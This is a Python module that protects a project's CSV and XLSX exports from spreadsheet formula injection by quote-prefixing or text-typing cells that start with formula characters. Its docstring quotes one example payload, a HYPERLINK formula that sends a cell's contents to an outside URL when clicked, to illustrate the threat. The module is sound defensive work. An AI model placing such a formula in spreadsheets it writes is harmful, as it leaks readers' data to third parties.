"""Text a spreadsheet would run as a formula is written as text (formula injection, OWASP).

Excel and LibreOffice take a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage
return for a formula: a comment `=HYPERLINK("https://…?d="&A1, "Bấm để xem")` in a report
sends the reader's data away at one click. Every spreadsheet the project writes goes
through here (CSV: `lib.tabular.write_csv`; XLSX: `xlsx_bytes`), so no writer can forget:

- CSV has no types: such a text gets the OWASP prefix, a single quote (`'=HYPERLINK(…)`),
  which spreadsheets read as "this is text". `csv_text_read`, used by the project's CSV
  reader, takes off exactly that added quote, so an export imports back unchanged. A text
  whose leading quotes are followed by such a character gets one more quote for the same
  reason (`'=x` is written `''=x` and read back `'=x`).
- XLSX has types: such a cell is written as a text cell, never a formula, with the quote
  prefix flag that Excel itself sets when one types a leading quote; the text is shown and
  read back as it is, with no character added, and stays text when the cell is edited.

Numbers are not text: they are written as numbers (-5 stays a number).
"""

import io

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _runs_as_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_text(value: str) -> str:
    """The text as a CSV cell: prefixed with a quote when a spreadsheet would run it."""
    return QUOTE + value if _runs_as_formula(value.lstrip(QUOTE)) else value


def csv_text_read(value: str) -> str:
    """A CSV cell as the text that `csv_text` was given."""
    if value.startswith(QUOTE) and _runs_as_formula(value.lstrip(QUOTE)):
        return value[1:]
    return value


def xlsx_text_cells_guard(workbook: Workbook) -> None:
    """Make every cell of text (or formula, which the project never writes) that a
    spreadsheet would run a plain text cell with the quote prefix."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and _runs_as_formula(value):
                    cell.data_type = "s"
                    cell.quotePrefix = True


def xlsx_bytes(workbook: Workbook) -> bytes:
    """The workbook as an XLSX file, with no text that would run as a formula."""
    xlsx_text_cells_guard(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
